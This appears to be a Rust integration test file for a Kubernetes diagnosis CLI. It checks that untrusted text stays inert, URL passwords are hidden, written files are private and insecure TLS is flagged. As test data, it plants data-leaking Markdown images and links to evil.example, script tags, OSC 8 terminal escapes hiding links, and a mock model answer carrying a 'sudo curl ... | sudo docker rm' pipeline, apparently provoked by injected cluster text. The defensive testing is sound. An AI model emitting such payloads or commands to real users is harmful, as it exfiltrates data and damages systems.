//! The smaller promises of SECURITY.md, on the real binary: untrusted text stays inert in reports and on the
//! terminal, URL credentials are never shown, every written file is private, insecure TLS is called out.
//! The model and the API server are wiremock servers on 127.0.0.1.

use std::path::Path;

use serde_json::json;
use wiremock::MockServer;

use crate::common::{fixture, json, mekhanikube, run};

/// A runtime for the mock servers; the binary under test runs beside it.
fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap()
}

fn mock_ollama(rt: &tokio::runtime::Runtime, answer: &str) -> MockServer {
    rt.block_on(crate::common::mock_ollama(answer, None))
}

fn mock_apiserver(rt: &tokio::runtime::Runtime) -> MockServer {
    rt.block_on(crate::fake_cluster::mock_apiserver())
}

fn write_kubeconfig(path: &Path, server: &str, insecure: bool) {
    std::fs::write(path, crate::fake_cluster::kubeconfig_text(server, insecure)).unwrap();
}

/// A port on 127.0.0.1 that nothing listens on.
fn closed_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

// Untrusted text in reports and on the terminal

/// Planted in cluster data and in the model's answer: an image that leaks names, links of every Markdown kind,
/// HTML, and bare URLs that GFM would link.
const PAYLOAD: &str = "![x](http://evil.example/leak?d=1) [l](http://evil.example/l) <http://evil.example/a> \
                       <img src=http://evil.example/i.png> https://evil.example/bare www.evil.example ops@evil.example";

/// A pod crash-looping with the payload in its name, its container message and a Warning event about it.
fn planted_snapshot(path: &Path) {
    let name = format!("api{PAYLOAD}");
    let pod = json!({"apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": "shop", "uid": "u1"},
        "spec": {"containers": [{"name": "app", "image": "registry.example/app:1"}]},
        "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "False"}],
            "containerStatuses": [{"name": "app", "image": "registry.example/app:1", "imageID": "", "ready": false,
                "restartCount": 7, "state": {"waiting": {"reason": "CrashLoopBackOff", "message": PAYLOAD}},
                "lastState": {"terminated": {"exitCode": 1, "reason": "Error", "message": PAYLOAD}}}]}});
    let event = json!({"apiVersion": "v1", "kind": "Event",
        "metadata": {"name": "e1", "namespace": "shop"},
        "involvedObject": {"apiVersion": "v1", "kind": "Pod", "namespace": "shop", "name": name, "uid": "u1"},
        "type": "Warning", "reason": "BackOff", "message": format!("Back-off {PAYLOAD}"), "count": 3,
        "lastTimestamp": "2026-11-23T14:00:00Z"});
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [pod, event]});
    std::fs::write(path, list.to_string()).unwrap();
}

/// The issue's case: a model answer (provoked by text planted in an event and a container message) with an
/// image whose URL carries names. The Markdown report shows it, and the planted cluster text, as text only.
#[test]
fn planted_links_in_cluster_data_and_model_answer_stay_inert_in_the_markdown_report() {
    let rt = runtime();
    let answer = json!({"cause": format!("The app exits. {PAYLOAD}"), "impact": "<script>alert(1)</script>",
                        "steps": [{"text": "[r]: http://evil.example/definition", "command": "", "changes_cluster": false},
                                  {"text": "Read the log.", "command": "kubectl logs api --previous", "changes_cluster": false}]})
    .to_string();
    let ollama = mock_ollama(&rt, &answer);
    let dir = tempfile::tempdir().unwrap();
    let snapshot = dir.path().join("snapshot.json");
    planted_snapshot(&snapshot);
    let out = run(mekhanikube()
        .args(["report", "--explain", "--no-cache", "--ollama-url", &ollama.uri(), "--snapshot"])
        .arg(&snapshot)
        .arg("--out")
        .arg(dir.path().join("out"))
        .arg("--history")
        .arg(dir.path().join("history.sqlite")));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let markdown = std::fs::read_to_string(dir.path().join("out/latest.md")).unwrap();
    assert!(markdown.contains("## Explanations") && markdown.contains("Cause: The app exits. ![x]("), "{markdown}");
    assert!(markdown.contains("Back-off"), "the event is in the report: {markdown}");
    crate::markdown_inert::assert_inert(&markdown);
    let html = std::fs::read_to_string(dir.path().join("out/latest.html")).unwrap();
    assert!(!html.contains("<img src=http") && !html.contains("<script>alert"), "{html}");
}

/// The text view strips OSC 8 hyperlinks (whose target is hidden behind other text) and every other escape
/// sequence from a streamed answer; a bare URL stays visible text (see SECURITY.md).
#[test]
fn streamed_answer_cannot_hide_a_link_on_the_terminal() {
    let rt = runtime();
    let answer = "Cause: \u{1b}]8;;http://evil.example/leak\u{1b}\\the docs\u{1b}]8;;\u{1b}\\ and \u{1b}[2Jsee https://kubernetes.io/docs";
    let ollama = mock_ollama(&rt, answer);
    let out = run(mekhanikube()
        .args(["analyze", "--color", "always", "--explain", "--no-cache", "--ollama-url", &ollama.uri(), "--snapshot"])
        .arg(fixture("pod/broken.yaml")));
    assert!(out.stdout.contains("Cause: the docs and see https://kubernetes.io/docs"), "{}", out.stdout);
    assert!(!out.stdout.contains("\u{1b}]8") && !out.stdout.contains("evil.example"), "{:?}", out.stdout);
    assert!(!out.stdout.contains("\u{1b}[2J"));
}

/// The issue's answers (an unsafe pipeline, an invented StorageClass, a kubectl command that does not exist) on
/// the terminal: the structured answer is shown checked, never as it streamed.
#[test]
fn unsafe_commands_and_invented_names_are_never_shown_as_advice() {
    let rt = runtime();
    let answer = json!({"cause": "The StorageClass ultra-fast-ssd of QuantumStore is missing.", "impact": "The shop is down.",
        "steps": [
            {"text": "Read the log.", "command": "kubectl logs api-5d8f7c9b6-crash -n shop --previous", "changes_cluster": false},
            {"text": "Clean up.", "command": "sudo curl -sL https://get.example.com/fix.sh | sudo docker rm -r", "changes_cluster": false},
            {"text": "Raise the quota.", "command": "kubectl quota increase -n shop", "changes_cluster": true},
            {"text": "Delete the pod.", "command": "kubectl delete pod api-5d8f7c9b6-crash -n shop", "changes_cluster": false}]})
    .to_string();
    let ollama = mock_ollama(&rt, &answer);
    let out = run(mekhanikube()
        .args([
            "analyze",
            "--explain",
            "--no-cache",
            "--llm-concurrency",
            "1",
            "--ollama-url",
            &ollama.uri(),
            "--snapshot",
        ])
        .arg(fixture("pod/broken.yaml")));
    assert_eq!(out.code, 1, "{}", out.stderr);
    for unsafe_text in ["sudo curl", "docker rm", "quota increase", "\"cause\""] {
        assert!(!out.stdout.contains(unsafe_text), "'{unsafe_text}' printed: {}", out.stdout);
    }
    assert!(
        out.stdout
            .contains("   $ kubectl delete pod api-5d8f7c9b6-crash -n shop\n   (changes the cluster — review first)"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("- step 2: a command that uses sudo"), "{}", out.stdout);
    assert!(out.stdout.contains("- StorageClass ultra-fast-ssd (cause): not in this cluster"), "{}", out.stdout);
}

// URL credentials

/// `http://user:pass@host` from OLLAMA_HOST, the config file or the flag: the password appears nowhere, neither
/// in --help, nor on stderr, nor in the JSON document, nor in any report file; the requests still carry it.
#[test]
fn url_credentials_are_never_shown() {
    const SECRET: &str = "s3cretPassw0rd";
    let dir = tempfile::tempdir().unwrap();
    let closed = format!("http://ops:{SECRET}@127.0.0.1:{}", closed_port());

    // Help text is wrapped to the terminal: compare with whitespace collapsed.
    let help = |cmd: &mut assert_cmd::Command| {
        let out = run(cmd);
        assert_eq!(out.code, 0, "{}", out.stderr);
        out.stdout.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let shown = help(mekhanikube().env("OLLAMA_HOST", &closed).args(["analyze", "--help"]));
    assert!(!shown.contains(SECRET) && shown.contains("[env: OLLAMA_HOST=http://***@127.0.0.1:"), "{shown}");
    let config = dir.path().join("config.yaml");
    std::fs::write(&config, format!("ollamaUrl: {closed}\n")).unwrap();
    let shown = help(mekhanikube().env("MEKHANIKUBE_CONFIG", &config).args(["report", "--help"]));
    assert!(!shown.contains(SECRET) && shown.contains("[default: http://***@127.0.0.1:"), "{shown}");

    let snapshot = fixture("pod/broken.yaml");
    let analyzed = run(mekhanikube()
        .env("OLLAMA_HOST", &closed)
        .args(["analyze", "--explain", "-o", "json", "--snapshot"])
        .arg(&snapshot));
    assert_eq!(analyzed.code, 2, "an unreachable model is an error: {}", analyzed.stderr);
    let doc = json(&analyzed.stdout);
    let error = doc["explanations"][0]["error"].as_str().unwrap_or_else(|| panic!("{doc}"));
    assert!(error.contains("http://***@127.0.0.1"), "{error}");
    for text in [&analyzed.stdout, &analyzed.stderr] {
        assert!(!text.contains(SECRET), "{text}");
    }
    let reported = run(mekhanikube()
        .env("MEKHANIKUBE_CONFIG", &config)
        .args(["report", "--explain", "--snapshot"])
        .arg(&snapshot)
        .arg("--out")
        .arg(dir.path().join("out"))
        .arg("--history")
        .arg(dir.path().join("history.sqlite")));
    assert_eq!(reported.code, 2, "{}", reported.stderr);
    assert!(!reported.stderr.contains(SECRET), "{}", reported.stderr);
    for ext in ["md", "html", "json"] {
        let text = std::fs::read_to_string(dir.path().join(format!("out/latest.{ext}"))).unwrap();
        assert!(text.contains("***@127.0.0.1") && !text.contains(SECRET), "latest.{ext}: {text}");
    }
    let invalid =
        run(mekhanikube().args(["analyze", "--explain", "--ollama-url", &format!("ftp://ops:{SECRET}@127.0.0.1")]));
    assert_eq!(invalid.code, 2);
    assert!(invalid.stderr.contains("ftp://***@127.0.0.1") && !invalid.stderr.contains(SECRET), "{}", invalid.stderr);
}

// Private files

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

/// Everything `report`, `snapshot` and the explanation cache write is 0600, and the directories they create 0700,
/// whatever the umask (the test's is the usual 022).
#[test]
#[cfg(unix)]
fn every_written_file_is_private() {
    let rt = runtime();
    let ollama = mock_ollama(&rt, r#"{"cause": "a missing setting", "impact": "down", "steps": ["set it"]}"#);
    let dir = tempfile::tempdir().unwrap();
    let (out_dir, state, cache) = (dir.path().join("out"), dir.path().join("state/deep"), dir.path().join("cache"));
    let history = state.join("history.sqlite");
    let report = run(mekhanikube()
        .env("XDG_CACHE_HOME", &cache)
        .args(["report", "--explain", "--ollama-url", &ollama.uri(), "--snapshot"])
        .arg(fixture("pod/broken.yaml"))
        .arg("--out")
        .arg(&out_dir)
        .arg("--history")
        .arg(&history));
    assert_eq!(report.code, 0, "{}", report.stderr);
    let mut files: Vec<_> = std::fs::read_dir(&out_dir).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(files.len(), 6, "three reports and three latest copies: {files:?}");
    files.push(history.clone());
    files.push(state.join("history.sqlite.lock"));
    for journal in ["history.sqlite-journal", "history.sqlite-wal", "history.sqlite-shm"] {
        if state.join(journal).exists() {
            files.push(state.join(journal));
        }
    }
    let cached: Vec<_> =
        std::fs::read_dir(cache.join("mekhanikube/explanations")).unwrap().map(|e| e.unwrap().path()).collect();
    assert!(!cached.is_empty(), "the answer was cached");
    files.extend(cached);
    for file in &files {
        assert_eq!(mode(file), 0o600, "{}", file.display());
    }
    for created in [&out_dir, &state, &state.parent().unwrap().to_path_buf(), &cache.join("mekhanikube/explanations")] {
        assert_eq!(mode(created), 0o700, "{}", created.display());
    }

    let apiserver = mock_apiserver(&rt);
    let kubeconfig = dir.path().join("kubeconfig");
    write_kubeconfig(&kubeconfig, &apiserver.uri(), false);
    let saved = dir.path().join("cluster.yaml");
    let snap = run(mekhanikube().arg("snapshot").arg("--kubeconfig").arg(&kubeconfig).arg("-o").arg(&saved));
    assert_eq!(snap.code, 0, "{}", snap.stderr);
    assert_eq!(mode(&saved), 0o600);
}

// Insecure TLS

/// A context with `insecure-skip-tls-verify` is named once on stderr before anything is read; an unreachable
/// server then fails as usual.
#[test]
fn insecure_skip_tls_verify_warns_once() {
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    write_kubeconfig(&kubeconfig, &format!("https://127.0.0.1:{}", closed_port()), true);
    let out = run(mekhanikube().arg("analyze").arg("--kubeconfig").arg(&kubeconfig));
    assert_eq!(out.code, 2, "{}", out.stderr);
    let lines: Vec<&str> = out.stderr.lines().filter(|l| !l.trim().is_empty()).collect();
    assert_eq!(lines.len(), 2, "{}", out.stderr);
    assert!(lines[0].starts_with("warning:") && lines[0].contains("insecure-skip-tls-verify"), "{}", lines[0]);
    assert!(lines[1].starts_with("error:") && lines[1].contains("cannot reach the API server"), "{}", lines[1]);

    write_kubeconfig(&kubeconfig, &format!("https://127.0.0.1:{}", closed_port()), false);
    let out = run(mekhanikube().arg("analyze").arg("--kubeconfig").arg(&kubeconfig));
    assert_eq!(out.code, 2);
    assert!(!out.stderr.contains("insecure-skip-tls-verify"), "{}", out.stderr);
}
